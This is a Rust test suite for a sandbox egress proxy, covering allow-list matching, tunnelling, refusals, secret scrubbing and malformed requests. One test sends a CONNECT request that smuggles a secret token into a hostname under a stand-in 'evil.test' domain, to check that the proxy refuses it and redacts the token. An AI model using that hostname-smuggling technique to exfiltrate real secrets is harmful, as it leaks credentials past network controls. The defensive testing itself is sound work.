use std::collections::BTreeMap;
use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use super::*;

fn list(entries: &[&str]) -> AllowList {
    AllowList::parse(&entries.iter().map(|e| e.to_string()).collect::<Vec<_>>()).unwrap()
}

fn proxy(allow: &[&str], hosts: &[(&str, &str)]) -> Arc<EgressProxy> {
    let config = NetworkConfig {
        allow: allow.iter().map(|e| e.to_string()).collect(),
        hosts: hosts
            .iter()
            .map(|(n, a)| (n.to_string(), a.to_string()))
            .collect::<BTreeMap<_, _>>(),
    };
    let scrubber = Scrubber::new([("TOKEN", "s3cr3tvalue")]).unwrap();
    Arc::new(EgressProxy::new(&config, scrubber))
}

/// Sends `request` through `proxy` serving `allow` and returns what came
/// back, whole.
async fn through(proxy: &Arc<EgressProxy>, allow: &[&str], request: &[u8]) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let serving = {
        let proxy = proxy.clone();
        let allow = list(allow);
        tokio::spawn(async move {
            let (socket, _) = listener.accept().await.unwrap();
            proxy.serve(socket, &allow, "sandbox-1").await;
        })
    };
    let mut client = TcpStream::connect(addr).await.unwrap();
    client.write_all(request).await.unwrap();
    let mut answer = Vec::new();
    client.read_to_end(&mut answer).await.unwrap();
    // A tunnel lasts until both ends close.
    drop(client);
    serving.await.unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

/// An upstream that records the request head it gets and answers `ok`.
async fn upstream() -> (u16, tokio::task::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let task = tokio::spawn(async move {
        let (mut socket, _) = listener.accept().await.unwrap();
        let mut seen = Vec::new();
        let mut buffer = [0u8; 4096];
        while !seen.windows(4).any(|w| w == b"\r\n\r\n") {
            let read = socket.read(&mut buffer).await.unwrap();
            if read == 0 {
                break;
            }
            seen.extend_from_slice(&buffer[..read]);
        }
        socket
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
            .await
            .unwrap();
        socket.shutdown().await.unwrap();
        String::from_utf8_lossy(&seen).into_owned()
    });
    (port, task)
}

#[tokio::test]
async fn plain_http_to_a_listed_name_goes_out_in_origin_form() {
    let proxy = proxy(&["pypi.test", "127.0.0.1"], &[("pypi.test", "127.0.0.1")]);
    let (port, seen) = upstream().await;
    let request = format!(
        "GET http://pypi.test:{port}/simple/demo/?x=1 HTTP/1.1\r\nHost: pypi.test:{port}\r\nProxy-Connection: keep-alive\r\n\r\n"
    );
    let answer = through(&proxy, &["pypi.test"], request.as_bytes()).await;
    assert!(answer.ends_with("ok"), "{answer}");
    let seen = seen.await.unwrap();
    assert!(
        seen.starts_with("GET /simple/demo/?x=1 HTTP/1.1\r\n"),
        "{seen}"
    );
    assert!(seen.contains("Connection: close"), "{seen}");
    assert!(
        !seen.to_ascii_lowercase().contains("proxy-connection"),
        "{seen}"
    );
}

#[tokio::test]
async fn connect_tunnels_to_a_name_under_a_wildcard() {
    let proxy = proxy(
        &["*.files.test", "127.0.0.0/8"],
        &[("a.files.test", "127.0.0.1")],
    );
    let (port, seen) = upstream().await;
    let request = format!(
        "CONNECT a.files.test:{port} HTTP/1.1\r\nHost: a.files.test:{port}\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n"
    );
    let answer = through(&proxy, &["*.files.test"], request.as_bytes()).await;
    assert!(
        answer.starts_with("HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK"),
        "{answer}"
    );
    assert!(seen.await.unwrap().starts_with("GET / HTTP/1.1"));
}

#[tokio::test]
async fn refusals_are_answered_counted_and_told_to_followers() {
    let proxy = proxy(
        &["pypi.test", "inner.test", "127.0.0.1"],
        &[("pypi.test", "127.0.0.1"), ("inner.test", "10.9.9.9")],
    );
    let mut follow = proxy.follow("sandbox-1");
    // Not on the session's list (though on the ceiling's).
    let answer = through(
        &proxy,
        &["pypi.test"],
        b"CONNECT inner.test:443 HTTP/1.1\r\n\r\n",
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(answer.contains("inner.test is not on this session's allow-list"));
    // On the list, but pinned to a private address the ceiling does not name.
    let answer = through(
        &proxy,
        &["inner.test"],
        b"GET http://inner.test/ HTTP/1.1\r\n\r\n",
    )
    .await;
    assert!(answer.contains("10.9.9.9, a private address"), "{answer}");
    // An address asked for directly needs an address entry of the session's.
    let answer = through(
        &proxy,
        &["pypi.test"],
        b"CONNECT 127.0.0.1:22 HTTP/1.1\r\n\r\n",
    )
    .await;
    assert!(answer.contains("127.0.0.1 is not on"), "{answer}");
    // A host name is the sandbox's to choose: a secret in it is scrubbed.
    let answer = through(
        &proxy,
        &["pypi.test"],
        b"CONNECT s3cr3tvalue.evil.test:443 HTTP/1.1\r\n\r\n",
    )
    .await;
    assert!(!answer.contains("s3cr3tvalue"), "{answer}");
    assert!(answer.contains("[secret TOKEN].evil.test"), "{answer}");
    let mut told = Vec::new();
    while let Ok(message) = follow.refusals.try_recv() {
        told.push(message);
    }
    assert_eq!(told.len(), 4, "{told:?}");
    assert!(told[0].starts_with("egress proxy refused CONNECT inner.test:443"));
    let refused = proxy
        .connections
        .get_or_create(&OutcomeLabel { outcome: "refused" })
        .get();
    assert_eq!(refused, 4);
    drop(follow);
    assert!(lock(&proxy.feeds).is_empty());
}

#[tokio::test]
async fn bad_requests_get_a_400() {
    let proxy = proxy(&["pypi.test"], &[]);
    let answer = through(&proxy, &["pypi.test"], b"GET /relative HTTP/1.1\r\n\r\n").await;
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
    assert!(answer.contains("absolute http:// URI"), "{answer}");
    let answer = through(
        &proxy,
        &["pypi.test"],
        b"CONNECT pypi.test HTTP/1.1\r\n\r\n",
    )
    .await;
    assert!(answer.contains("host:port"), "{answer}");
}

#[test]
fn authorities_split_into_host_and_port() {
    assert_eq!(
        split_authority("a.test:443", None),
        Some(("a.test".into(), 443))
    );
    assert_eq!(
        split_authority("[::1]:8080", None),
        Some(("::1".into(), 8080))
    );
    assert_eq!(split_authority("a.test", None), None);
    assert_eq!(split_authority(":80", None), None);
}

#[test]
fn every_command_gets_the_proxy_in_both_spellings() {
    let env = proxy_env();
    assert_eq!(env["HTTPS_PROXY"], "http://127.0.0.1:3128");
    assert_eq!(env["http_proxy"], "http://127.0.0.1:3128");
    assert!(env["NO_PROXY"].contains("127.0.0.1"));
}
